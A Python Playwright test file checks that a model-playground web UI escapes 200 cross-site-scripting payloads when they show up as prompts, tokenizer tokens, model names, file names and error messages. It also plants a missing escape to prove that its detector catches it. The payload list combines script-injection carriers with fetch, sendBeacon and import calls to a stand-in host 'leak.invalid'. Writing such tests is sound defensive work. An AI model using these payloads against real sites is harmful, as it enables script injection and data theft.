"""Two hundred scripts as prompt, token, model, file name and error, in a real browser: none runs, none calls home."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch
from playwright.sync_api import Page, expect
from tokenizers import Tokenizer
from transformers import GPT2Config, GPT2LMHeadModel

from playground.ui import page as page_module
from tests.faults import control
from tests.models import tiny
from tests.page.visitor import COLLECT, PATIENCE_MS, number, steps

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(900)]
HIT, HOME = "window.hit=(window.hit||0)+1", "http://leak.invalid"
# fmt: off
CARRIERS = (
    "<img src=x onerror={}>", "<svg onload={}>", "<script>{}</script>", "<body onload={}>",
    "<details open ontoggle={}>", "<iframe srcdoc=\"<script>parent.{}</script>\">", "<input autofocus onfocus={}>",
    "<video><source onerror={}>", "<math><mtext><img src=x onerror={}>", "<a href=javascript:{}>x",
    "<style onload={}>*{{}}</style>", "</textarea><img src=x onerror={}>", "</script><script>{}</script>",
    "'\"><img src=x onerror={}>", "${{{}}}", "{{{{{}}}}}", "`;{};//", "javascript:{}", "'-({})-'",
    "<object data=javascript:{}>", "<button formaction=javascript:{}>x", "<marquee onstart={}>",
    "&lt;img src=x onerror={}&gt;", "<img/src=x/onerror={}>", "<ScRiPt>{}</sCrIpT>",
)
CALLS = (
    HIT, f"fetch('{HOME}/f')", f"new Image().src='{HOME}/i'", f"navigator.sendBeacon('{HOME}/b')",
    f"location='{HOME}/l'", "alert(1)", f"import('{HOME}/m.js')", f"document.title='{HOME}'",
)
MADE = ("img[src=x], svg[onload], [onerror], [onload]:not(link):not(script), [ontoggle], [onfocus], [onstart], "
        "object, math, marquee")
# fmt: on
SCRIPTS = tuple(carrier.format(call) for call in CALLS for carrier in CARRIERS)
WATCH = """made => ({
    hit: window.hit === undefined ? null : window.hit,
    title: document.title,
    made: [...document.querySelectorAll(made)].map(e => e.outerHTML.slice(0, 100)),
})"""


def whole(folder: Path) -> Path:
    """A tiny random model all of whose other tokens are the scripts."""
    made = tiny.folder(folder)
    tokenizer = Tokenizer.from_file(str(made / "tokenizer.json"))
    tokenizer.add_tokens([f"{script} {i}" for i, script in enumerate(SCRIPTS)])
    tokenizer.save(str(made / "tokenizer.json"))
    torch.manual_seed(1)
    config = GPT2Config(vocab_size=tokenizer.get_vocab_size(), n_positions=256, n_embd=32, n_layer=1, n_head=2,
                        bos_token_id=0, eos_token_id=0, pad_token_id=0)  # fmt: skip
    GPT2LMHeadModel(config).save_pretrained(str(made))
    return made


def file_name(script: str) -> str:
    """A script as the name of a folder: without the two characters that none may have."""
    return script.replace("/", "\u2215").replace("\0", "")[:120]


def after(page: Page, comes: str) -> None:
    """Run, and wait for a frame."""
    page.wait_for_timeout(80)  # the box tells the server its text a moment after the last key
    page.evaluate("window.frames_ = []")
    page.click("#text-run")
    page.wait_for_function(comes)


class Watched:
    """A page on which nothing may run, be made, open a dialog, or ask anybody but its own server."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.wrong = page, list[str]()
        page.set_default_timeout(PATIENCE_MS)
        expect.set_options(timeout=PATIENCE_MS)
        page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda r: r.url.startswith((url, "data:", "blob:")) or self.wrong.append(r.url))
        page.on("framenavigated", lambda f: f.url.startswith((url, "about:")) or self.wrong.append(f.url))
        page.goto(url)
        expect(page.locator("#text-view .pg-chip").first).to_be_visible()
        self.title = page.title()

    def check(self) -> None:
        self.page.wait_for_timeout(50)
        seen = self.page.evaluate(WATCH, MADE)
        assert (seen["hit"], seen["title"], seen["made"], self.wrong) == (None, self.title, [], [])


@pytest.fixture
def watched(page: Page, here: control.Page) -> Iterator[Watched]:
    made = Watched(page, here.url)
    yield made
    made.check()


def test_there_are_two_hundred_different_scripts_and_a_page_without_escapes_runs_them(page: Page) -> None:
    assert len(set(SCRIPTS)) == 200
    page.set_content("<p id=a></p>")
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.evaluate("t => { document.querySelector('#a').innerHTML = t; }", "".join(SCRIPTS[:5]))
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") >= 2


def test_scripts_as_prompts_and_as_errors_that_quote_them_run_nothing(watched: Watched, here: control.Page) -> None:
    page = watched.page
    page.get_by_role("button", name="Penalties").click()
    bias, box = page.locator("#text-logit_bias textarea"), page.locator("#text-prompt textarea")
    number(page, "max_new_tokens", 2)
    page.evaluate(COLLECT)
    for start in range(0, len(SCRIPTS), 20):
        some = SCRIPTS[start : start + 20]
        for script in some[start // 20 % 10 :: 10]:
            bias.fill(f"{script} = x")
            after(page, "window.frames_.some(f => (f.status.error || '').includes('logit_bias'))")
        expect(page.locator("#text-view .pg-error")).to_contain_text("logit_bias")
        bias.fill("")
        box.fill("\n".join(some))
        after(page, "window.frames_.some(f => f.finished || f.status.state === 'error')")
        expect(page.locator("#text-view .pg-error")).to_be_hidden()
        watched.check()


def test_scripts_as_tokens_run_nothing(watched: Watched, here: control.Page, tmp_path: Path) -> None:
    page, folder = watched.page, whole(tmp_path / "poisoned")
    box = page.locator("#text-model input")
    box.click()
    box.fill(str(folder))
    box.press("Enter")
    for name, value in (("temperature", 2), ("top_k", 0), ("top_p", 1), ("max_new_tokens", 160)):
        number(page, name, value)
    page.fill("#text-prompt textarea", "a")
    page.evaluate(COLLECT)
    page.click("#text-run")
    page.wait_for_function("window.frames_.some(f => f.finished)")
    written = steps(page)
    shown = {script for script in SCRIPTS for s in written for c in s["candidates"] if script in c["text"]}
    assert len(shown) == len(SCRIPTS), "not every script was a candidate"
    chips = page.locator("#text-view .pg-chip:not(.pg-given)")
    for at in range(0, len(written), 4):
        chips.nth(at).click()
        expect(page.locator("#text-view .pg-where")).to_have_text(f"step {at + 1} of {len(written)}")
    watched.check()
    page.reload()
    expect(page.locator("#text-view .pg-chip").nth(3)).to_be_visible()


def test_scripts_as_names_of_models_run_nothing(watched: Watched) -> None:
    page = watched.page
    page.get_by_role("tab", name="Models").click()
    box, error = page.locator("#models-add textarea, #models-add input"), page.locator(".page-panel-error")
    for script in SCRIPTS[1::3]:
        box.fill(script)
        page.click("#models-add-load")
        expect(error).to_contain_text(repr(script[:80])[1:12])
    watched.check()


def test_scripts_as_names_of_files_run_nothing(watched: Watched, here: control.Page, tmp_path: Path) -> None:
    """Folders with such names: some are models and get into the list, the others are refused and quoted."""
    page = watched.page
    page.get_by_role("tab", name="Models").click()
    box, error = page.locator("#models-add textarea, #models-add input"), page.locator(".page-panel-error")
    for i, script in enumerate(SCRIPTS[::12]):
        folder = tmp_path / str(i) / file_name(script)
        folder.parent.mkdir()
        if i % 10 == 0:
            tiny.folder(folder)
        else:
            folder.mkdir()
            (folder / f"{file_name(script)[:80]}.py").write_text("")
        box.fill(str(folder))
        page.click("#models-add-load")
        if i % 10 == 0:
            expect(page.locator(".page-model", has_text=f"/{i}/").locator("button")).to_have_text("Unload")
        else:
            expect(error).to_contain_text("holds code")
            expect(error).to_contain_text(folder.name[:30])
    watched.check()
    page.get_by_role("tab", name="Text").click()
    page.locator("#text-model input").click()
    watched.check()


def test_a_planted_missing_escape_is_found(browser: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    head = page_module.head()
    careless = head.replace(".textContent = ", ".innerHTML = ")
    assert careless != head
    monkeypatch.setattr(page_module, "head", lambda: careless)
    context = browser.new_context()
    with control.served(monkeypatch, 100) as here:
        page = context.new_page()
        made = Watched(page, here.url)
        page.get_by_role("tab", name="Models").click()
        page.fill("#models-add textarea, #models-add input", SCRIPTS[0])
        page.click("#models-add-load")
        expect(page.locator(".page-panel-error")).to_be_visible()
        page.wait_for_timeout(300)
        with pytest.raises(AssertionError):
            made.check()
        context.close()
